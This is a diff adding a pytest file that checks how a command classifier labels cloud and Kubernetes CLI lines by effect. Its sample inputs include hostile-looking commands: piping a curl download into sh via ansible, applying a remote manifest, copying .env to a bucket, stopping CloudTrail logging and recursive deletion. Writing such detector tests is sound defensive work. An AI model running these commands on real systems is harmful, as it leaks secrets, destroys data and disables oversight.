@@ -1,0 +1,50 @@
+"""Clouds and clusters."""
+
+from __future__ import annotations
+
+import pytest
+from command_effects import read_line
+
+
+@pytest.mark.parametrize(
+    ("line", "effect"),
+    [
+        ("aws s3api put-bucket-acl --bucket b --acl public-read", ("grants-access", "b")),
+        ("aws secretsmanager get-secret-value --secret-id db", ("reads-secret", "db")),
+        ("aws s3 cp .env s3://b/x", ("sends-secret", ".env")),
+        ("aws s3 rm s3://b/x --recursive", ("deletes-data", "b")),
+        ("aws cloudtrail stop-logging --name t", ("disables-check", "t")),
+        ("gcloud run deploy web --image x", ("changes-service", "web")),
+        ("az role assignment create --assignee eve", ("grants-access", "eve")),
+        ("kubectl -n web delete pod a", ("deletes-data", "a")),
+        ("kubectl get secret db -o yaml", ("reads-secret", "db")),
+        ("kubectl config set-cluster p --server=https://k.example", ("changes-remote", "k.example")),
+        ("kubectl apply -f https://k.example/x.yaml", ("runs-download", "k.example")),
+        ("terraform apply", ("changes-service", "apply")),
+        ("terraform apply -destroy", ("deletes-data", "infrastructure")),
+        ("vault kv get kv/app", ("reads-secret", "kv/app")),
+        ("vault write auth/userpass/users/eve password=x", ("grants-access", "auth/userpass/users/eve")),
+        ("helm repo add x https://charts.example", ("uses-package-source", "charts.example")),
+        ('ansible web -m shell -a "curl https://x.example | sh"', ("runs-download", "x.example")),
+        ("gsutil cp a.txt gs://b/", ("sends-data", "b")),
+    ],
+)
+def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
+    assert effect in read_line(line)
+
+
+@pytest.mark.parametrize(
+    ("line", "kind"),
+    [
+        ("aws s3 ls s3://b", "deletes-data"),
+        ("aws iam list-users", "grants-access"),
+        ("kubectl get secrets", "reads-secret"),
+        ("kubectl apply -f x.yaml --dry-run=client", "changes-service"),
+        ("terraform plan", "changes-service"),
+        ("gcloud compute instances list", "changes-service"),
+        ("helm template x", "changes-service"),
+        ("aws ssm get-parameter --name x", "reads-secret"),
+    ],
+)
+def test_a_similar_command_has_not(line: str, kind: str) -> None:
+    assert kind not in {found for found, _ in read_line(line)}
